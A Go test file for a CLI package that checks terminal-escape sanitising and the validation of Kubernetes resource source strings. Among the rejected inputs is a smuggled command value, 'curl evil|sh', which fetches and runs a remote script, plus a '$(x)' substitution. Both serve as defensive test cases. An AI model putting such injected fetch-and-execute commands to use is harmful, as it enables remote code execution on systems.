package cli

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestNothingControlsTheTerminal(t *testing.T) {
	var out strings.Builder
	writer := &printable{to: &out}
	for _, part := range []string{"a\x1b[2J\x07\x08\r\u009b\u202e b\tc\n", "└", "\xe2\x94", "\x94", "\xff."} {
		written, err := writer.Write([]byte(part))
		require.NoError(t, err)
		assert.Equal(t, len(part), written)
	}
	assert.Equal(t, "a\ufffd[2J\ufffd\ufffd\ufffd\ufffd\ufffd b\ufffdc\n└└\ufffd.", out.String())
}

func TestSourceOfACopyIsAName(t *testing.T) {
	assert.Equal(t, "ConfigMap a/b", parseSource("ConfigMap/a/b").String())
	assert.Equal(t, "apps", parseSource("Deployment.apps/a/b").Group)
	assert.Equal(t, "Role a/system:x", parseSource("Role.rbac.authorization.k8s.io/a/system:x").String())
	for _, value := range []string{"", "ConfigMap/a", "ConfigMap/a/b/c", "ConfigMap/x; curl evil|sh #/y", "ConfigMap/a/$(x)", "a b/a/b", "ConfigMap./a/b c", "Kind.g r/a/b"} {
		assert.Nil(t, parseSource(value), value)
	}
}
